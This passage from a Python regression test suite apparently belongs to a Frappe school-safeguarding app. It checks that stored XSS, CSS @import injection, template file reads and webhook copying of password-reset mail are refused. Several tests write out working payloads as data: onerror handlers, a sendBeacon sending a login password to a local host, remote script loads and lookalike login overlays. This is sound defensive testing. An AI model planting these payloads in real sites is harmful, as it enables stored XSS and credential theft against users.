		self.assertNotEqual(status, 200)
		self.assertEqual(frappe.db.count("Sessions", {"user": teacher}), sessions)
		status, answer = request_as({"Sec-Fetch-Site": "same-origin"}, "login", "post", **login)
		self.assertEqual(status, 200, f"the control: the site's own login page: {answer}")

	def test_a_link_preview_shows_its_values_as_text(self):
		"""Round 88: the desk cuts each value of a record's link preview at 280 characters and puts
		it into the popover as markup; a value cut inside a quoted attribute turned the next
		value's text into attributes, and a note's link to the record ran a script when the
		aandachtsfunctionaris pointed at it. The control: the preview shows the note's words."""
		from frappe.custom.doctype.property_setter.property_setter import make_property_setter

		frappe.set_user("Administrator")
		setters = [
			make_property_setter("Note", None, "show_preview_popup", 1, "Check", for_doctype=True),
			make_property_setter("Note", "content", "in_preview", 1, "Check"),
		]
		note = frappe.get_doc({"doctype": "Note", "title": "Voorbeeldnotitie", "public": 1}).insert()
		cut = "<p title='\"" + "x" * 300 + "'>Zie het rooster</p>"
		frappe.db.set_value("Note", note.name, "content", cut)  # as stored before this app
		frappe.db.commit()

		def remove():
			frappe.db.delete("Note", {"name": note.name})
			for setter in setters:
				frappe.delete_doc("Property Setter", setter.name)
			frappe.db.commit()
			frappe.clear_cache(doctype="Note")

		self.addCleanup(remove)
		frappe.clear_cache(doctype="Note")
		status, preview = self.call(
			"frappe.desk.link_preview.get_preview_data", doctype="Note", docname=note.name
		)
		self.assertEqual(status, 200, preview)
		shown = [
			value for key, value in preview.items() if key not in ("preview_title", "name", "preview_image")
		]
		self.assertTrue(shown and all("<" not in value and "'" not in value for value in shown), preview)
		self.assertTrue(any("Zie het rooster" in value for value in shown), preview)

	def test_what_runs_in_other_users_pages_is_the_administrators(self):
		for doc in (
			{
				"doctype": "Translation",
				"language": "nl",
				"source_text": "Case Work",
				"translated_text": "Casuswerk<img src=x onerror=alert(1)>",
			},
			{
				"doctype": "Client Script",
				"name": "meldcode-sandbox-script",
				"dt": "ToDo",
				"enabled": 1,
				"script": "frappe.call('x')",
			},
			{
				"doctype": "Custom Field",
				"dt": "Note",
				"fieldname": "meldcode_test_eval",
				"label": "Meldcode Test Eval",
				"fieldtype": "Data",
				"depends_on": "eval:fetch('http://127.0.0.1:9/')",
			},
		):
			status, answer = self.call("frappe.client.insert", doc=doc)
			self.assertEqual(status, 403, f"{doc['doctype']}: {answer}")
		status, answer = self.call(
			"frappe.client.set_value",
			doctype="Website Script",
			name="Website Script",
			fieldname="javascript",
			value="navigator.sendBeacon('http://127.0.0.1:9/', login_password.value)",
		)
		self.assertEqual(status, 403, answer)

		# The positive controls: what Frappe cleans, and a field without code.
		status, answer = self.call(
			"frappe.client.insert",
			doc={
				"doctype": "Note",
				"title": "meldcode-sandbox-note",
				"content": "<b>x</b><img src=x onerror=alert(1)>",
			},
		)
		self.assertEqual(status, 200, answer)
		self.assertNotIn("onerror", answer["content"])
		status, answer = self.call(
			"frappe.client.insert",
			doc={
				"doctype": "Custom Field",
				"dt": "Note",
				"fieldname": "meldcode_test_plain",
				"label": "Meldcode Test Plain",
				"fieldtype": "Data",
			},
		)
		self.assertEqual(status, 200, answer)
		frappe.db.rollback()
		frappe.delete_doc("Custom Field", answer["name"])
		frappe.db.delete("Note", {"title": "meldcode-sandbox-note"})
		frappe.db.commit()

	def test_a_template_reads_no_file_and_no_trace(self):
		from frappe.utils.file_manager import save_file

		secret = save_file("meldcode-sandbox-geheim.txt", b"GEHEIM", "User", SYSTEM_MANAGER, is_private=1)
		public = save_file("meldcode-sandbox-openbaar.txt", b"OPENBAAR", "User", SYSTEM_MANAGER, is_private=0)
		frappe.db.commit()

		def preview(template):
			return self.call(
				"frappe.automation.doctype.auto_repeat.auto_repeat.generate_message_preview",
				reference_dt="User",
				reference_doc=SYSTEM_MANAGER,
				message=template,
			)

		read = (
			"{{ frappe.get_doc({'doctype': 'File', 'file_url': 'URL', 'file_name': 'NAME'}).get_content() }}"
		)
		try:
			status, answer = preview(read.replace("URL", public.file_url).replace("NAME", public.file_name))
			self.assertIn("OPENBAAR", json.dumps(answer), "the positive control: a public file")
			status, answer = preview(read.replace("URL", secret.file_url).replace("NAME", secret.file_name))
			self.assertNotIn("GEHEIM", json.dumps(answer))
			self.assertNotEqual(status, 200, answer)
			for doctype in ("File", "ToDo", "Comment"):
				status, answer = preview(f"{{{{ frappe.get_all('{doctype}', pluck='name') }}}}")
				self.assertNotEqual(status, 200, f"{doctype}: {answer}")
		finally:
			frappe.db.rollback()
			for file in (secret, public):
				frappe.delete_doc("File", file.name, force=True)
			frappe.db.commit()

	def test_markup_quoted_as_json_is_cleaned_and_no_workspace_is_planted(self):
		"""Round 16: Frappe passes a value that reads as JSON uncleaned: a note shown at login, a
		workspace planted in the aandachtsfunctionaris's sidebar (by the teacher) and an HTML field's
		options ran a script in the case team's desk."""
		script = "<img src=/files/x.png onerror='fetch(`http://127.0.0.1:9/`)'>"
		status, note = self.call(
			"frappe.client.insert",
			doc={"doctype": "Note", "title": "meldcode-sandbox-json", "content": json.dumps(script)},
		)
		self.assertEqual(status, 200, note)
		self.assertNotIn("onerror", note["content"])
		self.assertIn("<img", note["content"], "the positive control: the markup itself stays")

		af = staff_user("A", "Aandachtsfunctionaris")
		block = json.dumps(
			[
				{
					"id": "h1",
					"type": "header",
					"data": {"text": f"<span class='h4'>Nieuw{script}</span>", "col": 12},
				}
			]
		)
		teacher = api_token(staff_user("A", "Teacher"))
		frappe.db.commit()
		workspace = {"doctype": "Workspace", "title": "Werkinstructie", "public": 0, "content": block}
		status, answer = request_as(
			teacher,
			"frappe.client.insert",
			"post",
			doc={**workspace, "label": f"Werkinstructie-{af}", "for_user": af},
		)
		self.assertEqual(status, 403, answer)
		own = staff_user("A", "Teacher")
		status, answer = request_as(
			teacher,
			"frappe.client.insert",
			"post",
			doc={**workspace, "label": f"Werkinstructie-{own}", "for_user": own},
		)
		self.assertEqual(status, 200, f"the positive control: one's own private workspace: {answer}")
		self.assertNotIn("onerror", answer["content"])
		self.assertIn('class=\\"h4\\"', answer["content"].replace("'", '\\"'))
		frappe.db.rollback()
		frappe.db.delete("Workspace", {"name": answer["name"]})
		frappe.db.delete("Note", {"title": "meldcode-sandbox-json"})
		frappe.db.commit()

	def test_a_template_reads_no_case_record_from_the_document_cache(self):
		"""Round 16: a comment on a dossier put it in Frappe's document cache, where a template's
		frappe.get_cached_doc read it without any SQL."""
		dossier = open_dossier("A")
		frappe.db.commit()  # (a commit clears the cache of what the transaction saved)
		frappe.get_cached_doc("Meldcode Dossier", dossier.name)  # as Frappe's comment code does
		school = dossier.school
		frappe.get_cached_doc("Meldcode School", school)
		status, answer = self.call(
			"frappe.automation.doctype.auto_repeat.auto_repeat.generate_message_preview",
			reference_dt="User",
			reference_doc=SYSTEM_MANAGER,
			message=f"{{{{ frappe.get_cached_doc('Meldcode ' ~ 'School', '{school}').name }}}}",
		)
		self.assertIn(school, json.dumps(answer), "the positive control: a harmless cached document")
		status, answer = self.call(
			"frappe.automation.doctype.auto_repeat.auto_repeat.generate_message_preview",
			reference_dt="User",
			reference_doc=SYSTEM_MANAGER,
			message=f"{{{{ frappe.get_cached_doc('Meldcode ' ~ 'Dossier', '{dossier.name}').pupil_name }}}}",
		)
		self.assertNotEqual(status, 200, answer)
		self.assertNotIn(dossier.pupil_name, json.dumps(answer))
		frappe.clear_document_cache("Meldcode Dossier", dossier.name)

	def test_markup_a_browser_reads_is_cleaned_whatever_python_makes_of_it(self):
		"""Round 17: Frappe cleans a value only where Python's HTML parser finds a tag; a browser
		also finds one behind "<!-->" and in a tag left open. The teacher's own last name ran in the
		aandachtsfunctionaris's desk (beside the teacher's comment) and read every case; now that
		tag left open is kept as text, and a name refuses it."""
		teacher = staff_user("A", "Teacher")
		token = api_token(teacher)
		frappe.db.commit()
		status, answer = request_as(
			token,
			"frappe.client.set_value",
			"post",
			doctype="User",
			name=teacher,
			fieldname="last_name",
			value="de Vries <img src=x onerror=$.getScript('//127.0.0.1:9/x.js')//",
		)
		# The tag left open is kept as text ("<" and a zero-width space), which a name may not hold.
		self.assertEqual(status, 403, answer)
		self.assertIn("may not hold", answer)
		self.assertNotIn("onerror", frappe.db.get_value("User", teacher, "full_name"))
		status, note = self.call(
			"frappe.client.insert",
			doc={
				"doctype": "Note",
				"title": "meldcode-sandbox-comment",
				"content": "<!--><img src=x onerror=alert(1)>--> Let op: a < b",
			},
		)
		self.assertEqual(status, 200, note)
		self.assertNotIn("onerror", note["content"])
		self.assertIn("Let op", note["content"])

		# Rounds 43 to 46: markup written as text, which the desk decodes for a Kanban card and a
		# field's label in the timeline and then shows as markup, is kept as text that makes no tag
		# once decoded, or refused where it cannot be; a "<" typed as text is kept whole.
		def todo(description):
			return request_as(
				token,
				"frappe.client.insert",
				"post",
				doc={
					"doctype": "ToDo",
					"allocated_to": staff_user("A", "Aandachtsfunctionaris"),
					"assigned_by": teacher,
					"description": description,
				},
			)

		def shown(value):
			"""The text as the Kanban card and the timeline put it into the page."""
			return as_the_desk_shows(value)[-1]

		for planted, reads in (
			("<p>Graag &lt;img src=x onerror=alert(1)&gt;</p>", "Graag <\u200bimg src=x"),
			("&lt;<i></i>img src=x onerror=alert(1)&gt;", "<\u200bimg src=x"),
			("&amp;lt;b onclick=x&amp;gt;", "<\u200bb onclick=x>"),
			("Studiedag <#&lt;img src=x onerror=alert(1)&gt;>", "<\u200bimg"),  # round 45
			("&#x3C;svg onload=alert(1)>", "<\u200bsvg"),
		):
			status, answer = todo(planted)
			self.assertEqual(status, 200, planted)
			self.assertIn(reads, shown(answer["description"]), planted)
			self.assertNotRegex(shown(answer["description"]), r"<[A-Za-z!/?]", planted)
		for planted in (
			"Bel&quot; style=&quot;animation-name:blink&quot; onanimationstart=&quot;alert(1)",
			"&<i></i>lt;img src=x onerror=alert(1)&gt;",  # a tag inside the entity itself
		):
			status, answer = todo(planted)
			self.assertEqual(status, 403, planted)
		status, setter = self.call(
			"frappe.client.insert",
			doc={
				"doctype": "Property Setter",
				"doctype_or_field": "DocField",
				"doc_type": "Note",
				"field_name": "title",
				"property": "label",
				"property_type": "Data",
				"value": "Prioriteit &lt;img src=x onerror=alert(1)&gt;",
			},
		)
		self.assertEqual(status, 200, setter)
		self.assertEqual(shown(setter["value"]), "Prioriteit <\u200bimg src=x onerror=alert(1)>")
		status, kept = todo('<p>Bel de ouders: a &lt;b dan c, &lt;3 en "tot morgen"</p>')
		self.assertEqual(status, 200, "the control: text that stays text")
		self.assertEqual(
			shown(kept["description"]), 'Bel de ouders: a <\u200bb dan c, <\u200b3 en "tot morgen"'
		)
		status, note = self.call(
			"frappe.client.insert", doc={"doctype": "Note", "title": "meldcode-sandbox-a<b dan c"}
		)
		self.assertEqual(note["title"], "meldcode-sandbox-a<\u200bb dan c", "not cut off after the a")
		frappe.db.rollback()
		frappe.db.delete("Note", {"title": ("like", "meldcode-sandbox-%")})
		frappe.db.delete("ToDo", {"name": kept["name"]})
		frappe.db.set_value("User", teacher, {"last_name": None})
		frappe.db.commit()

	def test_no_automation_acts_on_the_mails_that_log_someone_in(self):
		"""Round 21: a System Manager's webhook on the Email Queue posted a parent's password-reset
		mail to their own server, and took over the parent's account."""
		webhook = {
			"doctype": "Webhook",
			"webhook_docevent": "after_insert",
			"request_url": "http://127.0.0.1:9/x",
			"request_method": "POST",
			"request_structure": "Form URL-Encoded",
			"webhook_data": [{"fieldname": "name", "key": "name"}],
			"enabled": 0,
		}
		for target in ("Email Queue", "OAuth Bearer Token"):
			status, answer = self.call(
				"frappe.client.insert",
				doc={**webhook, "__newname": "meldcode-mailcopy", "webhook_doctype": target},
			)
			self.assertEqual(status, 403, f"{target}: {answer}")
		status, answer = self.call(
			"frappe.client.insert", doc={**webhook, "__newname": "meldcode-notes", "webhook_doctype": "Note"}
		)
		self.assertEqual(status, 200, f"the positive control: a webhook on notes: {answer}")
		frappe.db.rollback()
		frappe.db.delete("Webhook", {"name": answer["name"]})
		frappe.db.commit()

	def test_a_field_is_cleaned_as_its_doctype_defines_it_not_as_customised(self):
		"""Round 22: a System Manager's Property Setter told Frappe not to clean a Note's title, and
		a public note shown at login ran a script in every user's desk."""
		unfiltered = {
			"doctype": "Property Setter",
			"doctype_or_field": "DocField",
			"doc_type": "Note",
			"field_name": "title",
			"property": "ignore_xss_filter",
			"property_type": "Check",
			"value": "1",
		}
		for doc in (
			unfiltered,
			{
				**unfiltered,
				"doc_type": "Number Card",
				"field_name": "filters_json",
				"property": "options",
				"property_type": "Data",
				"value": "JS",
			},
			{
				"doctype": "Custom Field",
				"dt": "Note",
				"fieldname": "meldcode_test_unfiltered",
				"label": "Meldcode Test Unfiltered",
				"fieldtype": "Text Editor",
				"ignore_xss_filter": 1,
			},
			{
				"doctype": "Custom Field",
				"dt": "Note",
				"fieldname": "meldcode_test_script",
				"label": "Meldcode Test Script",
				"fieldtype": "Code",
				"options": "JS",
			},
			# Round 72: a field Frappe cleans made one it stores as typed (a note shown at login),
			# and a code field of no language, printed as it is.
			{
				**unfiltered,
				"field_name": "content",
				"property": "fieldtype",
				"property_type": "Select",
				"value": "Code",
			},
			{
				"doctype": "Custom Field",
				"dt": "Note",
				"fieldname": "meldcode_test_raw",
				"label": "Meldcode Test Raw",
				"fieldtype": "Code",
			},
			# Round 75: a barcode's markup and a signature's address, shown as stored
			{
				"doctype": "Custom Field",
				"dt": "Note",
				"fieldname": "meldcode_test_bc",
				"label": "B",
				"fieldtype": "Barcode",
			},
			{
				"doctype": "Custom Field",
				"dt": "Note",
				"fieldname": "meldcode_test_sig",
				"label": "S",
				"fieldtype": "Signature",
			},
		):
			status, answer = self.call("frappe.client.insert", doc=doc)
			self.assertEqual(status, 403, f"{doc['doctype']} {doc.get('property')}: {answer}")
		# The positive control of round 72: a type Frappe cleans, set the same way.
		for doc in (
			{**unfiltered, "property": "fieldtype", "property_type": "Select", "value": "Small Text"},
			{
				"doctype": "Custom Field",
				"dt": "Note",
				"fieldname": "meldcode_test_text",
				"label": "T",
				"fieldtype": "Small Text",
			},
		):
			status, answer = self.call("frappe.client.insert", doc=doc)
			self.assertEqual(status, 200, f"{doc['doctype']}: {answer}")
			frappe.db.rollback()
			frappe.delete_doc(doc["doctype"], answer["name"], force=True)
			frappe.db.commit()
			frappe.clear_cache(doctype="Note")

		# The positive control: the bench's Administrator sets it; even so the field is cleaned
		# for anyone else, as the Note's own definition has it.
		frappe.db.rollback()
		setter = frappe.get_doc(unfiltered).insert()
		frappe.db.commit()
		try:
			title = "Meldcode onderhoud <img src=x onerror=\"import('/files/p2.js')\">"
			status, note = self.call(
				"frappe.client.insert",
				doc={"doctype": "Note", "title": title, "public": 1, "notify_on_login": 1, "content": "x"},
			)
			self.assertEqual(status, 200, note)
			stored = frappe.db.get_value("Note", note["name"], "title")
			self.assertNotIn("onerror", stored)
			self.assertIn("Meldcode onderhoud", stored)
		finally:
			frappe.db.rollback()
			frappe.delete_doc("Property Setter", setter.name)
			frappe.db.delete("Note", {"title": ("like", "Meldcode onderhoud%")})
			frappe.db.commit()
			frappe.clear_cache(doctype="Note")

	def test_a_barcode_or_signature_holds_only_what_its_field_draws(self):
		"""Round 76: the bench's Administrator may define barcode and signature fields (ERPNext
		ships them on Job Card and Contract); a value typed into one by anyone else went into the
		desk form (the barcode's SVG) or the print (the signature's src="…") as it was."""
		from meldcode_app.rules.shown_as_stored import is_a_barcode

		drawn = (
			'<svg width="100%" height="92px" viewBox="0 0 178 92" xmlns="http://www.w3.org/2000/svg" '
			'version="1.1" data-barcode-value="LL-1234"><g transform="translate(10, 10)" '
			'style="fill:#000000;"><rect x="0" y="0" width="6" height="50"></rect>'
			'<text style="font: 16px monospace" text-anchor="middle" x="79" y="72">LL-1234</text></g></svg>'
		)
		self.assertTrue(is_a_barcode(drawn), "the probe's control is a barcode as drawn")
		signed = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
		fields = [
			frappe.get_doc(
				{
					"doctype": "Custom Field",
					"dt": "Note",
					"fieldname": name,
					"label": name,
					"fieldtype": fieldtype,
				}
			).insert()
			for name, fieldtype in (("meldcode_test_code", "Barcode"), ("meldcode_test_signed", "Signature"))
		]
		frappe.db.commit()
		try:
			for planted in (
				{"meldcode_test_code": drawn.replace("</g>", "<image href=x onerror=alert(1)></image></g>")},
				{"meldcode_test_code": 'LL"><img src=x onerror=alert(1)>'},
				{"meldcode_test_signed": 'data:image/png;base64,AA" onerror="alert(1)'},
			):
				status, answer = self.call(
					"frappe.client.insert", doc={"doctype": "Note", "title": "Meldcode code", **planted}
				)
				self.assertEqual(status, 403, f"{planted}: {answer}")
			status, answer = self.call(
				"frappe.client.insert",
				doc={
					"doctype": "Note",
					"title": "Meldcode code",
					"meldcode_test_code": drawn,
					"meldcode_test_signed": signed,
				},
			)
			self.assertEqual(status, 200, answer)
			self.assertEqual(frappe.db.get_value("Note", answer["name"], "meldcode_test_code"), drawn)
		finally:
			frappe.db.rollback()
			frappe.db.delete("Note", {"title": "Meldcode code"})
			for field in fields:
				frappe.delete_doc("Custom Field", field.name)
			frappe.db.commit()
			frappe.clear_cache(doctype="Note")

	def test_a_font_pasted_into_a_stylesheet_is_only_a_font(self):
		"""Round 76: a Website Manager's theme font weights closed the @import address Frappe
		pastes them into and imported a stylesheet of their own into the login page and the
		parents' portal; a print format's font goes into the print view's style the same way."""
		theme = {
			"doctype": "Website Theme",
			"theme": "Meldcode Lettertype",
			"custom": 1,
			"google_font": "Inter",
		}
		imports = 'wght@300");body{background:red}@import url("https://elders.example/x.css'
		self.addCleanup(self.remove_fonts)
		for token, doc in (
			(self.website_token, {**theme, "font_properties": imports}),
			(self.website_token, {**theme, "font_size": "1rem} .aanmelden{display:none} x{y:1"}),
			(self.website_token, {**theme, "google_font": 'Inter", x; } body{background:red'}),
			(
				self.token,
				{
					"doctype": "Print Format",
					"name": "Meldcode Lettertype",
					"doc_type": "Note",
					"font": "Inter; } @font-face{src:url(//elders.example/a)",
				},
			),
		):
			status, answer = request_as(token, "frappe.client.insert", "post", doc=doc)
			self.assertEqual(status, 403, f"{doc}: {answer}")
		# The positive control: a font, its weights and a size, through the same door.
		for token, doc in (
			(self.website_token, {**theme, "font_properties": "ital,wght@0,400;1,700", "font_size": "15px"}),
			(
				self.token,
				{
					"doctype": "Print Format",
					"name": "Meldcode Lettertype",
					"doc_type": "Note",
					"font": "Open Sans",
				},
			),
		):
			status, answer = request_as(token, "frappe.client.insert", "post", doc=doc)
			self.assertEqual(status, 200, f"{doc}: {answer}")
			self.remove_fonts()

	def remove_fonts(self):
		frappe.db.rollback()
		for doctype in ("Website Theme", "Print Format"):
			frappe.db.delete(doctype, {"name": "Meldcode Lettertype"})
		frappe.db.commit()
		for stylesheet in Path(frappe.utils.get_files_path("website_theme")).glob("meldcode_lettertype_*"):
			stylesheet.unlink()

	def test_markup_sent_is_stored_only_through_a_save_the_app_judges(self):
		"""Round 76: Frappe and other apps store what a request sends past a save (an access log
		any account fills in with db_insert, an Issue's status with set_value, a posted BOM with
		db_update); the desk shows such values as markup. The hooked save keeps working: it
		cleans what it cleans and keeps a field it does not clean as it is."""
		door = "frappe.core.doctype.access_log.access_log.make_access_log"
		planted = "Notitie<img src=x onerror=alert(document.cookie)>"
		self.addCleanup(self.remove_logs_and_notes)
		lifted = (
			'<a href="https://elders.example/login" style="display:block;transform:scale(60)">Notitie</a>'
		)
		calling = 'Notitie<img src="/api/method/logout">'  # round 84: logged out whoever viewed it
		for field in ("document", "report_name", "file_type"):
			for sent in (planted, lifted, calling):
				status, answer = request_as(
					self.token, door, "post", doctype="Note", method="Print", **{field: sent}
				)
				self.assertEqual(status, 403, f"{field}: {answer}")
		frappe.db.rollback()
		self.assertFalse(frappe.db.exists("Access Log", {"reference_document": ("like", "Notitie%")}))
		# The positive controls: plain text through the same door; a report's page exported as a
		# PDF, which Frappe keeps whole in the Access Log and shows as text (round 78); markup
		# through a save, cleaned where Frappe cleans, kept where it does not (a notification's
		# Jinja message).
		page = (
			'<!DOCTYPE html><html><head><meta charset="utf-8"><link href="/assets/frappe/print.css" '
			'rel="stylesheet"><style>.print-format { width: 100%; }</style></head>'
			"<body><div class='print-format'><table><tr><td>Notitie</td></tr></table></div></body></html>"
		)
		status, answer = request_as(self.token, "frappe.utils.print_format.report_to_pdf", "post", html=page)
		self.assertEqual(status, 200, str(answer)[:300])
		status, answer = request_as(self.token, door, "post", doctype="Note", document="Notitie 12")
		self.assertEqual(status, 200, answer)
		frappe.db.rollback()
		self.assertTrue(frappe.db.exists("Access Log", {"reference_document": "Notitie 12"}))
		status, note = request_as(
			self.token,
			"frappe.client.insert",
			"post",
			doc={"doctype": "Note", "title": "Notitie", "content": planted},
		)
		self.assertEqual(status, 200, note)
		frappe.db.rollback()
		self.assertNotIn("onerror", frappe.db.get_value("Note", note["name"], "content"))
		notification = {
			"doctype": "Notification",
			"name": "Meldcode notitie",
			"document_type": "Note",
			"event": "New",
			"channel": "System Notification",
			"subject": "Notitie",
			"message": planted,
		}
		status, answer = request_as(self.token, "frappe.client.insert", "post", doc=notification)
		self.assertEqual(status, 200, answer)
		frappe.db.rollback()
		self.assertEqual(frappe.db.get_value("Notification", "Meldcode notitie", "message"), planted)
		# Rounds 78, 79: a comment with tags and a script link typed as text, and one that mentions
		# an attribute (Frappe keeps the record's last comments, cut short, with SQL); a note laid
		# over the desk by its style or by the desk's own classes: kept as text, kept in its place.
		for content in (
			"<p>Stuur de &lt;link&gt; en het &lt;svg&gt;-logo; cursus JavaScript: maandag.</p>",
			"<p>In de oude pagina stond 'onload=init()' in de body; graag weghalen.</p>",
		):
			status, answer = request_as(
				self.token,
				"frappe.desk.form.utils.add_comment",
				"post",
				reference_doctype="Note",
				reference_name=note["name"],
				content=content,
				comment_email=SYSTEM_MANAGER,
				comment_by="Systeem",
			)
			self.assertEqual(status, 200, f"{content}: {answer}")
		for overlay, kept in (
			(
				'<p><a href="https://elders.example/login" style="position:fixed;top:0;color:red">Log in</a></p>',
				"color",
			),
			# round 83: an inline link's padding and border paint over the page around it
			(
				'<p><a href="https://elders.example/login" style="padding:1500px 3000px;border:1500px solid #2490ef;color:#fff">Log in</a></p>',
				"color: #fff",
			),
			# round 82: a transform, or a negative margin around a padding, lifts it as well
			(
				'<p><a href="https://elders.example/login" style="display:block;transform:scale(60);color: rgb(230, 0, 0)">Log in</a></p>',
				"color: rgb(230, 0, 0)",
			),
			(
				'<p><a href="https://elders.example/login" style="display:block;margin:-3000px;padding:3000px;background-color:#fff">Log in</a></p>',
				"background-color: #fff",
			),
			(
				'<div class="fixed-top vh-100 bg-white">Log in</div><p class="ql-align-center">x</p><table class="table table-bordered"><tr><td>y</td></tr></table>',
				"ql-align-center",
			),
		):
			stored = self.saved("Note", title="Notitie", content=overlay).content
			for placing in ("position", "fixed-top", "transform", "margin", "display", "padding"):
				self.assertNotIn(placing, stored)
			self.assertIn(kept, stored)
		self.assertIn('class="table table-bordered"', stored, "an editor's table keeps its classes")
		# Round 80: an image pasted into an editor is kept, as a file.
		pixel = (
			"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
		)
		pasted = f'<p>Rooster<img src="data:image/png;base64,{pixel}"></p>'
		note = self.saved("Note", title="Notitie", content=pasted)
		self.assertRegex(note.content, r'<img src="/(private/)?files/')
		# Round 80: a line of text (a pupil's name shown as a link's title) holds no markup at all.
		note = self.saved("Note", title='<img src="https://elders.example/p.png">Notitie', content="x")
		self.assertEqual(note.title, "Notitie")
		# A teacher's signal with such text is saved as Frappe saves it (cleaned), with its traces.
		typed = f"Sam schreef {planted} op het bord."
		signal = {
			"doctype": "Meldcode Signal",
			"school": SCHOOLS["A"][0],
			"pupil_name": "Sam Typed",
			"signal_date": "2026-12-04",
			"signal_time": "10:15:00",
			"location": "Klaslokaal groep 6",
			"situation": typed,
			"nature": "Fact",
		}
		teacher = api_token(staff_user("A", "Teacher"))
		frappe.db.commit()
		status, answer = request_as(teacher, "frappe.client.insert", "post", doc=signal)
		self.assertEqual(status, 200, answer)
		frappe.db.rollback()
		self.assertIn(
			"Sam schreef Notitie", frappe.db.get_value("Meldcode Signal", answer["name"], "situation")
		)

	def saved(self, doctype: str, name: str | None = None, **values) -> dict:
		"""A new record (``name`` None) or a change of one field, as the System Manager over HTTP;
		the stored record."""
		if name is None:
			params = {"doc": {"doctype": doctype, **values}}
			status, answer = request_as(self.token, "frappe.client.insert", "post", **params)
		else:
			((fieldname, value),) = values.items()
			params = {"doctype": doctype, "name": name, "fieldname": fieldname, "value": value}
			status, answer = request_as(self.token, "frappe.client.set_value", "post", **params)
		self.assertEqual(status, 200, answer)
		frappe.db.rollback()
		if name is None and doctype in ("Event", "ToDo", "Letter Head"):
			self.addCleanup(frappe.db.commit)  # (the request committed it)
			self.addCleanup(frappe.db.delete, doctype, {"name": answer["name"]})
		return frappe.get_doc(doctype, answer["name"])

	def test_a_name_holds_no_markup_whatever_its_field_type(self):
		"""Round 81: a System Manager's Property Setter made a pupil's first name Small Text, and
		the name kept its link and image; a signal indicator's title is Small Text. Each showed as
		a title in B's case records: an outside link, and an image that tells when a case is
		opened. A text that is no name keeps what the cleaning keeps (the control)."""
		start = {"starts_on": "2026-12-07 19:00:00"}
		event = self.saved("Event", subject='<img src="https://elders.example/p.png">Ouderavond', **start)
		self.assertEqual(event.subject, "Ouderavond")
		# the controls: a subject's words and characters are kept; a ToDo's text (its title, in an
		# editor) keeps its paragraphs, list and link (round 82)
		event = self.saved("Event", subject="Les <i>Engels</i> & <b>rekenen</b>", **start)
		self.assertEqual(event.subject, "Les Engels & rekenen")
		listed = '<p>Voor de teamvergadering:</p><ol><li>Zie <a href="https://school.example/rooster">het rooster</a></li></ol>'
		todo = self.saved("ToDo", description=listed, allocated_to=SYSTEM_MANAGER)
		self.assertIn("<ol><li>Zie <a", todo.description)
		setter = frappe.get_doc(
			{
				"doctype": "Property Setter",
				"doctype_or_field": "DocField",
				"doc_type": "User",
				"field_name": "first_name",
				"property": "fieldtype",
				"property_type": "Select",
				"value": "Small Text",
			}
		).insert()
		self.addCleanup(frappe.delete_doc, "Property Setter", setter.name, force=True)
		self.addCleanup(frappe.clear_cache, doctype="User")
		self.addCleanup(frappe.db.set_value, "User", SYSTEM_MANAGER, {"first_name": "Systeem", "bio": None})
		frappe.clear_cache(doctype="User")
		frappe.db.commit()
		self.assertEqual(frappe.get_meta("User").get_field("first_name").fieldtype, "Small Text")
		linked = '<a href="https://elders.example/"><img src="https://elders.example/p.png">Sam</a>'
		user = self.saved("User", SYSTEM_MANAGER, first_name=linked)
		self.assertEqual(user.first_name, "Sam")
		self.assertNotIn("<", user.full_name)
		indicator = frappe.get_all("Meldcode Signal Indicator", pluck="name", limit=1)[0]
		before = frappe.db.get_value("Meldcode Signal Indicator", indicator, "indicator")
		self.addCleanup(frappe.db.set_value, "Meldcode Signal Indicator", indicator, "indicator", before)
		planted = f'<img src="https://elders.example/p.png">{before}'
		self.assertEqual(
			self.saved("Meldcode Signal Indicator", indicator, indicator=planted).indicator, before
		)
		# the control: a Small Text that names nothing keeps what the cleaning keeps (a user's bio)
		user = self.saved("User", SYSTEM_MANAGER, bio="<b>Leerkracht</b> groep 6")
		self.assertEqual(user.bio, "<b>Leerkracht</b> groep 6")

	def test_a_file_field_holds_no_call_of_a_site(self):
		"""Round 86: the navbar's logo set to /api/method/logout logged every desk user out at every
		page. A file of the site is a logo (the control)."""
		self.addCleanup(frappe.db.set_single_value, "Navbar Settings", "app_logo", None)
		for logo, expected in (
			("/api/method/logout", 403),
			("/%61pi/method/logout", 403),
			("/files/logo.png", 200),
		):
			status, answer = request_as(
				self.token,
				"frappe.client.set_value",
				"post",
				doctype="Navbar Settings",
				name="Navbar Settings",
				fieldname="app_logo",
				value=logo,
			)
			self.assertEqual(status, expected, f"{logo}: {answer}")
			frappe.db.rollback()

	def test_a_users_picture_is_one_of_the_sites_files(self):
		"""Round 84: a user's picture from another site told that site when the case team opened
		a signal of theirs. One of the site's files is a picture (the control)."""
		self.addCleanup(frappe.db.set_value, "User", SYSTEM_MANAGER, "user_image", None)
		for picture in ("https://elders.example/avatar.png", "/files/../api/method/logout"):
			status, answer = request_as(
				self.token,
				"frappe.client.set_value",
				"post",
				doctype="User",
				name=SYSTEM_MANAGER,
				fieldname="user_image",
				value=picture,
			)
			self.assertEqual(status, 403, picture)
		self.assertEqual(
			self.saved("User", SYSTEM_MANAGER, user_image="/files/pasfoto.png").user_image,
			"/files/pasfoto.png",
		)

	def test_rows_of_traces_and_secrets_are_listed_with_their_records(self):
		"""Round 86: the roles of a dossier's workflow actions, listed with `parent=` by any desk
		user, told each dossier's moves and step band; a queued mail's recipients told a System
		Manager which parent was mailed about a case. The bench's Administrator lists both (the
		control through the same door)."""
		dossier = open_dossier("B")
		mail = {
			"doctype": "Email Queue",
			"message": "Er staat een verslag voor u klaar.",
			"status": "Not Sent",
		}
		frappe.get_doc(
			{
				**mail,
				"reference_doctype": "Meldcode Dossier",
				"reference_name": dossier.name,
				"recipients": [{"recipient": "moeder.rijen@ouders.test"}],
			}
		).insert(ignore_permissions=True)
		teacher = api_token(staff_user("A", "Teacher"))
		admin = api_token("Administrator")
		frappe.db.commit()
		self.addCleanup(remove_records_of_school, SCHOOL_B)

		def remove_the_mail():  # (the database watch takes a statement from unittest for another app's)
			frappe.local.meldcode_sql_sent = None  # what the last request sent is no SQL of this
			frappe.db.delete("Email Queue Recipient", {"recipient": "moeder.rijen@ouders.test"})
			frappe.db.delete("Email Queue", {"reference_name": dossier.name})
			frappe.db.commit()

		self.addCleanup(remove_the_mail)
